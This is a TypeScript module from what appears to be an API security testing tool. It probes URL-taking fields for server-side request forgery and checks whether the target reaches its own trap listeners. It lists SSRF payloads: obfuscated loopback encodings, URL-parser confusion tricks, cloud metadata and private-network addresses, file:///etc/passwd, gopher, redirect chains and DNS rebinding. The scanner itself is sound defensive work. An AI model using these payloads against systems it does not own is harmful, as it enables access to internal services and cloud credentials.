import { genuine, revive } from "../ask.ts";
import type { Answer } from "../client.ts";
import type { Probe } from "../contract.ts";
import { leaksInternals, unjudgeable } from "../judge.ts";
import { objectsFor } from "../objects.ts";
import type { Schema } from "../openapi.ts";
import { type Place, placesWhere, putInto, putIntoQuery } from "../references.ts";
import { type AttackClass, type Judgement, type Scene, spoken } from "../scene.ts";
import { setTraps, type Traps } from "../traps.ts";

/** Addresses of other servers: none may lead the application to this machine or into its network. */
export const ssrf: AttackClass = {
  name: "ssrf",
  claim: "http.ssrf",
  excuse: (op, run) => {
    const genuineBody = run.bodies.get(op.key);
    return placesWhere(op, genuineBody, run.fresh, isAddress).length > 0
      ? null
      : "takes no address of another server";
  },
  after: async (scene): Promise<Probe[]> => {
    const { run, op, owner } = scene;
    const traps = await setTraps(run.manifest.outside);
    try {
      const probes: Probe[] = [];
      for (const place of placesWhere(op, scene.body, run.fresh, isAddress)) {
        const good = traps.good === null ? scene.control?.answer : await visit(scene, place, traps.good);
        const controlled = good && good.status < 300 ? good.status : null;
        for (const { what, url, path } of bait(traps, run.random.hex(8))) {
          if (owner) await revive(run, owner);
          const answer = await visit(scene, place, url);
          await pause(path === null ? 0 : AFTER_MS);
          const reached = path === null ? 0 : traps.reached(path);
          const by = {
            who: `${owner?.label ?? "a visitor"}, ${what} as ${place.name}`,
            role: owner?.role ?? "none",
          };
          const judged = leaksInternals(answer) ?? judge(answer, reached, what, controlled);
          probes.push(spoken(ssrf, op, by, judged, answer));
        }
      }
      return probes;
    } finally {
      traps.close();
    }
  },
};

const AFTER_MS = 30;

export function isAddress(schema: Schema): boolean {
  return (
    schema["x-url"] === true ||
    /^(uri|url|iri|uri-reference|iri-reference)$/.test(String(schema.format ?? ""))
  );
}

async function visit({ run, op, owner, slug, body }: Scene, place: Place, url: string): Promise<Answer> {
  const ids = owner ? (await objectsFor(run, op, owner, !op.safe)).ids : {};
  const filled = place.in === "body" ? putInto(body, place, url) : body;
  const ask = genuine(run, op, owner, { slug, ids, body: filled });
  return run.client.send(place.in === "query" ? { ...ask, path: putIntoQuery(ask.path, place, url) } : ask);
}

type Bait = { what: string; url: string; path: string | null };

/** `path` is where the trap would be reached; null where only the answer can tell. */
function bait(traps: Traps, nonce: string): Bait[] {
  const path = (i: number) => `/${nonce}-${i}`;
  const inside = INSIDE.map(
    ([what, host], i): Bait => ({ what, url: `http://${host}:${traps.port}${path(i)}`, path: path(i) }),
  );
  const tricks: Bait[] = [
    [`a name before an @`, `http://example.com@127.0.0.1:${traps.port}`],
    [`a password before an @`, `http://example.com:80@127.0.0.1:${traps.port}`],
    [`a backslash before an @`, `http://127.0.0.1:${traps.port}\\@example.com`],
    [`a fragment that looks like a host`, `http://127.0.0.1:${traps.port}#@example.com`],
  ].map(([what = "", host = ""], i) => {
    const at = path(100 + i);
    return {
      what,
      url: host.includes("\\") || host.includes("#") ? host.replace(/([\\#])/, `${at}$1`) : `${host}${at}`,
      path: at,
    };
  });
  const elsewhere = NEVER.map(([what, url]): Bait => ({ what, url, path: null }));
  const into = (host: string, n: number) => traps.redirect(`http://${host}:${traps.port}${path(n)}`);
  const hops: [string, string | null, number][] = [
    ["a redirect inside", into("127.0.0.1", 200), 200],
    ["a redirect inside, mapped", into("[::ffff:127.0.0.1]", 201), 201],
    ["a redirect to a redirect inside", traps.redirect(into("127.0.0.1", 202) ?? ""), 202],
  ];
  const moved = hops.flatMap(([what, url, n]): Bait[] => (url ? [{ what, url, path: path(n) }] : []));
  const changing = [300, 301].flatMap((n): Bait[] => {
    const url = traps.rebinding(path(n));
    return url ? [{ what: "a name that changes between check and use", url, path: path(n) }] : [];
  });
  return [...inside, ...tricks, ...elsewhere, ...moved, ...changing];
}

/** This machine by its many names. */
const INSIDE: readonly (readonly [what: string, host: string])[] = [
  ["127.0.0.1", "127.0.0.1"],
  ["localhost", "localhost"],
  ["a name below localhost", "a.localhost"],
  ["localhost with a dot at its end", "localhost."],
  ["a short form", "127.1"],
  ["one decimal number", "2130706433"],
  ["one hexadecimal number", "0x7f000001"],
  ["octal parts", "0177.0.0.01"],
  ["hexadecimal parts", "0x7f.0.0.0x1"],
  ["a number that overflows", "4294967297"],
  ["wide digits", "\uff11\uff12\uff17.0.0.1"],
  ["ideographic dots", "127\u30020\u30020\u30021"],
  ["0.0.0.0", "0.0.0.0"],
  ["the short form of zero", "0"],
  ["IPv6 loopback", "[::1]"],
  ["IPv6 loopback in full", "[0:0:0:0:0:0:0:1]"],
  ["IPv6 of nothing", "[::]"],
  ["IPv4 mapped", "[::ffff:127.0.0.1]"],
  ["IPv4 mapped, in hexadecimal", "[::ffff:7f00:1]"],
  ["IPv4 compatible", "[::127.0.0.1]"],
  ["IPv4 translated", "[64:ff9b::7f00:1]"],
];

/** What no listener of ours can stand for: refused, or breached. */
const NEVER: readonly (readonly [what: string, url: string])[] = [
  ["the metadata service", "http://169.254.169.254/latest/meta-data/"],
  ["the metadata service as a number", "http://2852039166/latest/meta-data/"],
  ["the metadata service by IPv6", "http://[fd00:ec2::254]/latest/meta-data/"],
  ["a private network of class A", "http://10.0.0.1/"],
  ["a private network of class B", "http://172.16.0.1/"],
  ["a private network of class C", "http://192.168.0.1/"],
  ["shared addresses", "http://100.64.0.1/"],
  ["an address of the link", "http://169.254.1.1/"],
  ["an address of the link by IPv6", "http://[fe80::1]/"],
  ["an address with a zone", "http://[fe80::1%25lo]/"],
  ["a unique local address", "http://[fd12:3456::1]/"],
  ["a file", "file:///etc/passwd"],
  ["another protocol", "gopher://127.0.0.1:25/"],
];

function judge(answer: Answer, reached: number, what: string, controlled: number | null): Judgement {
  if (reached > 0) return { verdict: "breached", detail: `the application came to ${what}` };
  const open = unjudgeable(answer);
  if (open) return open;
  // Where the way there ends elsewhere, the answer may be anything: only the trap tells.
  const isDirect = !/redirect|changes/.test(what);
  if (isDirect && answer.status < 400) return { verdict: "breached", detail: `${answer.status}: accepted` };
  if (controlled === null)
    return {
      verdict: "inconclusive",
      detail: `${answer.status}; but no control: an address outside was refused too`,
    };
  return { verdict: "held", detail: `${answer.status}, and nobody came` };
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
